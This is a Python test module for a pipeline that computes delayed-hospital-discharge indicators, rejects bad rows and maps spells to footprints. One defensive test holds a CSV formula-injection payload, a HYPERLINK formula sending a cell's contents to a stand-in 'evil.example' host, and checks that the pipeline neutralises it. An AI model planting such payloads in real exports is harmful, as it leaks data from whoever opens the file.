"""The discharge pipeline: hand-computed answers, every bad-row reason,
footprint rules, file errors, and a property test against a plain Python
reference implementation of the definitions in docs/data/discharges.md."""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections import Counter
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from joinedup.core.errors import InputError
from joinedup.core.register import is_gss_code, is_ods_code
from joinedup.pipelines import discharge_sql
from joinedup.pipelines.discharge_sql import GSS_PATTERN, ODS_PATTERN, REASONS
from joinedup.pipelines.discharges import (
    OUTPUT_COLUMNS,
    MonthlyDischarges,
    discharge_indicators,
    write_indicators,
)
from joinedup.pipelines.footprints import Footprints, read_footprints
from joinedup.pipelines.records import COLUMNS

HEADER = ",".join(COLUMNS)

# Hand-made spells; the delay of each is worked out in the comment.
SPELLS = [
    "S1,RXX,E10000034,2024-01-01,2024-01-03,2024-01-03,0,,",  # 0
    "S2,RXX,E10000034,2024-01-02,2024-01-05,2024-01-10,2,care_home,social_care",  # 5
    "S3,RXX,E10000034,2024-01-10,2024-01-20,2024-01-22,1,medicines,nhs",  # 2
    "S4,RXX,E10000034,2024-01-15,,2024-01-31,1,,",  # no ready date: 0
    "S5,RXX,E10000034,2024-01-20,2024-01-25,2024-01-24,0,,",  # gone before ready: 0
    "S6,RXX,E10000034,2024-01-25,2024-01-30,2024-02-02,3,joint_assessment,both",  # 3, Feb
    "S7,RYY,E10000034,2024-01-25,2024-01-29,2024-02-01,1,housing,",  # 3, Feb, unknown
    "S8,RYY,E06000001,2024-02-01,2024-02-01,2024-02-02,,transport,nhs",  # 1
]


def write_records(tmp_path: Path, lines: list[str], name: str = "spells.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *lines]) + "\n", encoding="utf-8")
    return path


def write_footprints(tmp_path: Path, lines: list[str]) -> Path:
    path = tmp_path / "footprints.csv"
    path.write_text("\n".join(["provider_code,patient_la_code,footprint", *lines]) + "\n")
    return path


def month(text: str) -> dt.date:
    return dt.date.fromisoformat(text + "-01")


def indicators(month_: str, footprint: str, *counts: int) -> MonthlyDischarges:
    return MonthlyDischarges(month(month_), footprint, *counts)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


# Columns of MonthlyDischarges after footprint: discharges, delayed_discharges,
# delayed_bed_days, then delayed bed days for nhs, social_care, both, unknown.
EXPECTED_BY_COUNCIL = [
    indicators("2024-02", "E06000001", 1, 1, 1, 1, 0, 0, 0),
    indicators("2024-01", "E10000034", 5, 2, 7, 2, 5, 0, 0),
    indicators("2024-02", "E10000034", 2, 2, 6, 0, 0, 3, 3),
]


def test_it_counts_hand_made_spells_by_council(tmp_path: Path) -> None:
    result = discharge_indicators(write_records(tmp_path, SPELLS))
    assert result.rows == EXPECTED_BY_COUNCIL
    assert (result.spells, result.rejected) == (8, 0)
    assert set(result.reasons.values()) == {0}
    january = result.rows[1]
    assert january.pct_no_delay == pytest.approx(60.0)
    assert january.mean_delay_days == pytest.approx(1.4)


def test_it_writes_the_documented_columns(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_indicators(EXPECTED_BY_COUNCIL, out)
    rows = read_csv(out)
    assert tuple(rows[0]) == OUTPUT_COLUMNS
    assert rows[1] == {
        "month": "2024-01-01",
        "footprint": "E10000034",
        "discharges": "5",
        "delayed_discharges": "2",
        "delayed_bed_days": "7",
        "pct_no_delay": "60.0",
        "mean_delay_days": "1.4",
        "delayed_bed_days_nhs": "2",
        "delayed_bed_days_social_care": "5",
        "delayed_bed_days_both": "0",
        "delayed_bed_days_unknown": "0",
    }


def test_the_most_specific_footprint_rule_wins_and_the_rest_is_unmatched(tmp_path: Path) -> None:
    rules = read_footprints(
        write_footprints(
            tmp_path,
            [
                "RXX,*,Acute",
                "*,E06000001,North",
                "RXX,E06000001,Acute",  # settles RXX patients from E06000001
                "RYY,E06000001,Special",  # beats *,E06000001
            ],
        )
    )
    result = discharge_indicators(write_records(tmp_path, SPELLS), rules)
    assert result.rows == [
        indicators("2024-01", "Acute", 5, 2, 7, 2, 5, 0, 0),
        indicators("2024-02", "Acute", 1, 1, 3, 0, 0, 3, 0),
        indicators("2024-02", "Special", 1, 1, 1, 1, 0, 0, 0),
        indicators("2024-02", "unmatched", 1, 1, 3, 0, 0, 0, 3),
    ]


def test_a_catch_all_rule_takes_what_nothing_else_matches() -> None:
    rules = Footprints({("RXX", "*"): "Acute", ("*", "*"): "Everyone else"})
    assert rules.footprint("RXX", "E06000001") == "Acute"
    assert rules.footprint("RYY", "E06000001") == "Everyone else"


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        (["rxx,*,A"], "row 2, field 'provider_code': 'rxx' is not an ODS code or *"),
        (["*,E1000003,A"], "row 2, field 'patient_la_code': 'E1000003' is not a GSS code or *"),
        (["RXX,*,"], "row 2, field 'footprint': is empty"),
        (["RXX,*,unmatched"], "row 2, field 'footprint': 'unmatched' is kept for spells"),
        (["RXX,*,A", "RXX,*,B"], "row 3: RXX,* is already given footprint 'A' on row 2"),
        ([], "no footprints"),
        (
            ["RXX,*,A", "*,E06000001,B"],
            "rows 2 and 3 both match provider RXX with council E06000001 and name different "
            "footprints ('A', 'B'); add a row RXX,E06000001,<footprint> to say which",
        ),
    ],
)
def test_it_rejects_a_bad_footprint_file(tmp_path: Path, lines: list[str], message: str) -> None:
    with pytest.raises(InputError, match=re.escape(message)):
        read_footprints(write_footprints(tmp_path, lines))


def test_a_repeated_footprint_rule_that_agrees_is_harmless(tmp_path: Path) -> None:
    rules = read_footprints(write_footprints(tmp_path, ["RXX,*,A", "RXX,*,A", "*,E06000001,A"]))
    assert rules.footprint("RXX", "E06000001") == "A"


def test_a_footprint_file_needs_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "footprints.csv"
    path.write_text("provider_code,footprint\nRXX,A\n")
    with pytest.raises(InputError, match=r"missing 1 column \(patient_la_code\)"):
        read_footprints(path)


# One row for each reason, then a row with two, then two copies of a spell_id
# and two rows without one (which are not each other's copies).
BAD_SPELLS = [
    ",RXX,E10000034,2024-01-01,2024-01-02,2024-01-02,0,,",
    "B2,R-1,E10000034,2024-01-01,2024-01-02,2024-01-02,0,,",
    "B3,RXX,E1000003,2024-01-01,2024-01-02,2024-01-02,0,,",
    "B4,RXX,E10000034,31/01/2024,2024-02-02,2024-02-02,0,,",
    "B5,RXX,E10000034,2024-01-01,soon,2024-01-02,0,,",
    "B6,RXX,E10000034,2024-01-01,2024-01-02,2024-02-30,0,,",
    "B7,RXX,E10000034,2024-01-05,2024-01-06,2024-01-04,0,,",
    "B7b,RXX,E10000034,2024-01-05,2024-01-06,2099-01-01,0,,",
    "B8,RXX,E10000034,2024-01-05,2024-01-04,2024-01-06,0,,",
    "B9,RXX,E10000034,2024-01-01,2024-01-02,2024-01-02,4,,",
    "B10,RXX,E10000034,2024-01-01,2024-01-02,2024-01-05,1,x,council",
    "B11,RXX,E10000034,,2024-01-02,2024-1-5,0,,",
    "D1,RXX,E10000034,2024-01-01,2024-01-02,2024-01-02,0,,",
    "D1,RXX,E10000034,2024-01-01,2024-01-02,2024-01-03,1,,",
    ",RXX,E10000034,2024-01-01,2024-01-02,2024-01-02,0,,",
]
EXPECTED_REJECTS = [
    (2, "missing_spell_id"),
    (3, "bad_provider_code"),
    (4, "bad_la_code"),
    (5, "bad_admission_date"),
    (6, "bad_discharge_ready_date"),
    (7, "bad_discharge_date"),
    (8, "discharge_before_admission"),
    (9, "discharge_after_today"),
    (10, "ready_before_admission"),
    (11, "unknown_pathway"),
    (12, "unknown_responsible"),
    (13, "bad_admission_date; bad_discharge_date"),
    (14, "duplicate_spell_id"),
    (15, "duplicate_spell_id"),
    (16, "missing_spell_id"),
]


def test_every_bad_row_is_rejected_with_its_row_and_reasons(tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(write_records(tmp_path, [*BAD_SPELLS, *SPELLS]), rejects=rejects)
    assert result.rows == EXPECTED_BY_COUNCIL
    assert (result.spells, result.rejected) == (23, 15)
    assert result.reasons == dict.fromkeys(REASONS, 1) | {
        "missing_spell_id": 2,
        "bad_admission_date": 2,
        "bad_discharge_date": 2,
        "duplicate_spell_id": 2,
    }
    written = read_csv(rejects)
    assert [(int(row["row"]), row["reason"]) for row in written] == EXPECTED_REJECTS
    assert list(written[0]) == [*COLUMNS, "row", "reason"]
    # The original values, as they were in the file.
    assert ",".join(written[3][name] for name in COLUMNS) == BAD_SPELLS[3]
    assert ",".join(written[10][name] for name in COLUMNS) == BAD_SPELLS[10]


def test_strict_fails_on_a_bad_row_after_writing_the_rejects(tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    with pytest.raises(InputError, match=r"1 bad row, .*unknown_pathway 1"):
        discharge_indicators(
            write_records(tmp_path, [*SPELLS, BAD_SPELLS[9]]), rejects=rejects, strict=True
        )
    assert [row["row"] for row in read_csv(rejects)] == ["10"]


def test_a_rejected_value_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
    bad = f'"{attack.replace(chr(34), chr(34) * 2)}",RXX,E10000034,2024-01-01,,2024-01-03,9,,'
    discharge_indicators(write_records(tmp_path, [*SPELLS, bad]), rejects=rejects)
    [row] = read_csv(rejects)
    assert row["spell_id"] == "'" + attack
    assert (row["pathway"], row["row"]) == ("9", "10")


def test_strict_passes_clean_data(tmp_path: Path) -> None:
    result = discharge_indicators(write_records(tmp_path, SPELLS), strict=True)
    assert result.rows == EXPECTED_BY_COUNCIL


def spells_table(lines: list[str], *, typed: bool) -> pa.Table:
    rows = [dict(zip(COLUMNS, line.split(","), strict=True)) for line in lines]
    columns: dict[str, pa.Array] = {}
    for name in COLUMNS:
        values = [row[name] or None for row in rows]
        if typed and name.endswith("_date"):
            columns[name] = pa.array(
                [dt.date.fromisoformat(v) if v else None for v in values], pa.date32()
            )
        elif typed and name == "pathway":
            columns[name] = pa.array([int(v) if v else None for v in values], pa.int8())
        else:
            columns[name] = pa.array(values, pa.string())
    return pa.table(columns)


@pytest.mark.parametrize("typed", [True, False])
def test_parquet_gives_the_same_answers_with_rows_counted_from_0(
    tmp_path: Path, typed: bool
) -> None:
    records = tmp_path / "spells.parquet"
    pq.write_table(spells_table([*SPELLS, BAD_SPELLS[9]], typed=typed), records)
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(records, rejects=rejects)
    assert result.rows == EXPECTED_BY_COUNCIL
    assert [(row["row"], row["pathway"]) for row in read_csv(rejects)] == [("8", "4")]


def test_a_parquet_date_past_the_year_9999_is_not_a_date(tmp_path: Path) -> None:
    records = tmp_path / "spells.parquet"
    table = spells_table(SPELLS, typed=True)
    days = pa.array([*table["discharge_date"].to_pylist()[:-1], 3_000_000], pa.date32())
    pq.write_table(table.set_column(5, "discharge_date", days), records)  # year 10183
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(records, rejects=rejects)
    assert (result.rejected, result.reasons["bad_discharge_date"]) == (1, 1)
    assert [row["row"] for row in read_csv(rejects)] == ["7"]


def test_a_parquet_column_of_the_wrong_type_is_named(tmp_path: Path) -> None:
    records = tmp_path / "spells.parquet"
    table = spells_table(SPELLS, typed=True).set_column(1, "provider_code", pa.array([1] * 8))
    pq.write_table(table, records)
    with pytest.raises(InputError, match="field 'provider_code': is stored as BIGINT"):
        discharge_indicators(records)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (None, "file not found"),
        ("", "the file is empty"),
        (HEADER + "\n", "no spells"),
        ("spell_id,provider_code\nS1,RXX\n", "missing 7 columns (patient_la_code, admission_date"),
        ("PAR1 and then nothing like Parquet", "cannot be read as Parquet"),
        (
            HEADER + ",pathway\n" + SPELLS[0] + ",1\n",
            "row 1 (header): column 'pathway' appears 2 times (columns 7 and 10): keep one",
        ),
    ],
)
def test_an_unusable_file_is_an_input_error(tmp_path: Path, text: str | None, message: str) -> None:
    path = tmp_path / "spells.csv"
    if text is not None:
        path.write_text(text)
    with pytest.raises(InputError, match=re.escape(message)) as raised:
        discharge_indicators(path)
    assert str(raised.value).startswith(str(path))


def test_progress_is_reported_up_to_the_end(tmp_path: Path) -> None:
    shares: list[float] = []
    discharge_indicators(write_records(tmp_path, SPELLS), progress=shares.append)
    assert shares and all(0 <= share <= 1 for share in shares)


@given(st.text(alphabet="AEKNRSWXZaz019-* ", max_size=10))
def test_the_sql_code_shapes_match_the_register(code: str) -> None:
    ods, gss = duckdb.execute(
        "SELECT regexp_full_match($code, $ods), regexp_full_match($code, $gss)",
        {"code": code, "ods": ODS_PATTERN, "gss": GSS_PATTERN},
    ).fetchone() or (None, None)
    assert (ods, gss) == (is_ods_code(code), is_gss_code(code))


# The reference: the documented definitions, as plainly as Python says them.

ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")


def parse_date(text: str) -> dt.date | None:
    if not ISO_DATE.fullmatch(text):
        return None
    try:
        return dt.date.fromisoformat(text)
    except ValueError:
        return None


def reference(
    rows: list[dict[str, str]], rules: Footprints | None
) -> tuple[list[MonthlyDischarges], list[tuple[int, str]]]:
    copies = Counter(row["spell_id"] for row in rows if row["spell_id"])
    sums: dict[tuple[str, dt.date], list[int]] = {}
    rejects = []
    for number, row in enumerate(rows, start=2):
        admitted = parse_date(row["admission_date"])
        ready = parse_date(row["discharge_ready_date"])
        discharged = parse_date(row["discharge_date"])
        faults = {
            "missing_spell_id": not row["spell_id"],
            "bad_provider_code": not is_ods_code(row["provider_code"]),
            "bad_la_code": not is_gss_code(row["patient_la_code"]),
            "bad_admission_date": admitted is None,
            "bad_discharge_ready_date": ready is None and row["discharge_ready_date"] != "",
            "bad_discharge_date": discharged is None,
            "discharge_before_admission": bool(admitted and discharged and discharged < admitted),
            "discharge_after_today": bool(discharged and discharged > TODAY),
            "ready_before_admission": bool(admitted and ready and ready < admitted),
            "unknown_pathway": row["pathway"] not in ("", "0", "1", "2", "3"),
            "unknown_responsible": row["responsible"] not in ("", "nhs", "social_care", "both"),
            "duplicate_spell_id": copies[row["spell_id"]] > 1,
        }
        if any(faults.values()):
            rejects.append((number, "; ".join(name for name, bad in faults.items() if bad)))
            continue
        assert discharged is not None
        delay = max((discharged - ready).days, 0) if ready else 0
        council = row["patient_la_code"]
        footprint = rules.footprint(row["provider_code"], council) if rules else council
        key = (footprint, discharged.replace(day=1))
        counts = sums.setdefault(key, [0] * 7)
        owner = ("nhs", "social_care", "both", "").index(row["responsible"])
        counts[0] += 1
        counts[1] += delay >= 1
        counts[2] += delay
        counts[3 + owner] += delay
    rows_out = [MonthlyDischarges(m, f, *counts) for (f, m), counts in sorted(sums.items())]
    return rows_out, rejects


def mostly(good: list[str], bad: list[str]) -> st.SearchStrategy[str]:
    """Good values four times as often as bad ones, so most rows count."""
    return st.sampled_from(good * 4 + bad)


admissions = ["2023-12-30", "2024-01-01", "2024-01-03"]
later = ["2024-01-01", "2024-01-03", "2024-01-31", "2024-02-01", "2024-03-05"]
# The reference's today, the pipeline's in every test: the day the months end.
TODAY = dt.date(2024, 3, 4)
spell_rows = st.fixed_dictionaries(
    {
        "spell_id": st.sampled_from(["", *(f"S{n}" for n in range(1, 40))]),
        "provider_code": mostly(["RXX", "RYY", "RZZ01"], ["rxx", ""]),
        "patient_la_code": mostly(["E10000034", "E06000001", "W06000015"], ["E1000003"]),
        "admission_date": mostly(admissions, ["", "2024-1-5"]),
        "discharge_ready_date": mostly(["", *later], ["31/01/2024"]),
        "discharge_date": mostly(later, ["2024-02-30"]),
        "pathway": mostly(["", "0", "1", "2", "3"], ["9"]),
        "delay_reason": st.sampled_from(["", "care_home", "medicines"]),
        "responsible": mostly(["", "nhs", "social_care", "both"], ["NHS"]),
    }
)
RULES = Footprints(
    {
        ("RXX", "*"): "Acute",
        ("*", "E06000001"): "North",
        ("RXX", "E06000001"): "North",
        ("RYY", "W06000015"): "Wales",
    }
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(rows=st.lists(spell_rows, min_size=1, max_size=25), with_rules=st.booleans())
def test_it_agrees_with_the_reference(
    tmp_path: Path, rows: list[dict[str, str]], with_rules: bool
) -> None:
    records = tmp_path / "spells.csv"
    with records.open("w", newline="") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    rejects = tmp_path / "rejects.csv"
    rules = RULES if with_rules else None
    result = discharge_indicators(records, rules, rejects=rejects, today=TODAY)

    expected_rows, expected_rejects = reference(rows, rules)
    assert result.rows == expected_rows
    assert [(int(row["row"]), row["reason"]) for row in read_csv(rejects)] == expected_rejects
    assert result.rejected == len(expected_rejects)
    assert result.spells == len(rows)


# The passes (see the module's docstring): the clean pass answers alone only
# when it can prove no row is bad; otherwise the full pass finds every bad row.


def count_full_passes(monkeypatch: pytest.MonkeyPatch) -> list[None]:
    calls: list[None] = []
    full_pass = discharge_sql.DischargeSql.full_pass

    def counted(sql: discharge_sql.DischargeSql) -> str:
        calls.append(None)
        return full_pass(sql)

    monkeypatch.setattr(discharge_sql.DischargeSql, "full_pass", counted)
    return calls


def is_good(row: dict[str, str]) -> bool:
    return reference([row], None)[1] == []


good_rows = spell_rows.filter(lambda row: bool(row["spell_id"]) and is_good(row))


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much],
)
@given(
    rows=st.lists(good_rows, min_size=1, max_size=25, unique_by=lambda row: row["spell_id"]),
    with_rules=st.booleans(),
)
def test_clean_records_take_the_clean_pass_alone_and_agree_with_the_reference(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows: list[dict[str, str]], with_rules: bool
) -> None:
    full_passes = count_full_passes(monkeypatch)
    records = tmp_path / "spells.csv"
    with records.open("w", newline="") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    rejects = tmp_path / "rejects.csv"
    rules = RULES if with_rules else None
    result = discharge_indicators(records, rules, rejects=rejects, strict=True, today=TODAY)

    assert result.rows == reference(rows, rules)[0]
    assert (result.spells, result.rejected) == (len(rows), 0)
    assert set(result.reasons.values()) == {0}
    assert rejects.read_text() == ",".join([*COLUMNS, "row", "reason"]) + "\n"
    assert not full_passes


@pytest.mark.parametrize(
    "bad",
    [
        BAD_SPELLS[1],  # a bad code, found on the groups of the clean pass
        BAD_SPELLS[10],  # a bad responsible, likewise
        BAD_SPELLS[6],  # a row's own fault
        BAD_SPELLS[0],  # no spell_id, found with the ids
        SPELLS[3],  # a copy of S4, found with the ids
    ],
)
def test_one_bad_row_of_any_kind_makes_the_full_pass_find_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
) -> None:
    full_passes = count_full_passes(monkeypatch)
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(write_records(tmp_path, [*SPELLS, bad]), rejects=rejects)
    assert full_passes
    assert result.rejected == len(read_csv(rejects)) == (2 if bad in SPELLS else 1)
    good = [line for line in SPELLS if line != bad]
    assert result.rows == discharge_indicators(write_records(tmp_path, good)).rows


# Every id of the same length has the same "hash": distinct ids collide.
COLLIDING_HASH = "hash(length({}))"


def test_colliding_hashes_of_distinct_ids_reject_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(discharge_sql, "ID_HASH", COLLIDING_HASH)
    full_passes = count_full_passes(monkeypatch)
    result = discharge_indicators(write_records(tmp_path, SPELLS))  # S1 to S8 collide
    assert full_passes  # the ids were compared, not their hashes
    assert result.rows == EXPECTED_BY_COUNCIL
    assert result.rejected == 0


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(rows=st.lists(spell_rows, min_size=1, max_size=25))
def test_with_colliding_hashes_it_still_agrees_with_the_reference(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows: list[dict[str, str]]
) -> None:
    monkeypatch.setattr(discharge_sql, "ID_HASH", COLLIDING_HASH)
    records = tmp_path / "spells.csv"
    with records.open("w", newline="") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(records, rejects=rejects, today=TODAY)

    expected_rows, expected_rejects = reference(rows, None)
    assert result.rows == expected_rows
    assert [(int(row["row"]), row["reason"]) for row in read_csv(rejects)] == expected_rejects


@pytest.mark.parametrize("duplicate", [False, True])
def test_whole_number_spell_ids_in_parquet_are_checked_for_copies(
    tmp_path: Path, duplicate: bool
) -> None:
    table = spells_table(SPELLS, typed=True)
    ids = list(range(1, 9)) if not duplicate else [1, 2, 3, 4, 5, 6, 7, 1]
    table = table.set_column(0, "spell_id", pa.array(ids, pa.int64()))
    records = tmp_path / "spells.parquet"
    pq.write_table(table, records)
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(records, rejects=rejects)
    if duplicate:
        assert [(row["row"], row["reason"]) for row in read_csv(rejects)] == [
            ("0", "duplicate_spell_id"),
            ("7", "duplicate_spell_id"),
        ]
    else:
        assert result.rows == EXPECTED_BY_COUNCIL
        assert read_csv(rejects) == []


@pytest.mark.parametrize("typed", [False, True])
def test_a_discharge_after_today_is_a_bad_row_its_month_not_begun(
    tmp_path: Path, typed: bool
) -> None:
    today = dt.date(2024, 2, 2)  # S8 is discharged today, S6 and S7 the day before
    later = "L1,RXX,E10000034,2024-02-01,2024-02-02,2024-02-03,0,,"
    records = tmp_path / "spells.parquet"
    pq.write_table(spells_table([*SPELLS, later], typed=typed), records)
    rejects = tmp_path / "rejects.csv"
    result = discharge_indicators(records, rejects=rejects, today=today)
    assert result.rows == EXPECTED_BY_COUNCIL
    assert [(row["spell_id"], row["reason"]) for row in read_csv(rejects)] == [
        ("L1", "discharge_after_today")
    ]
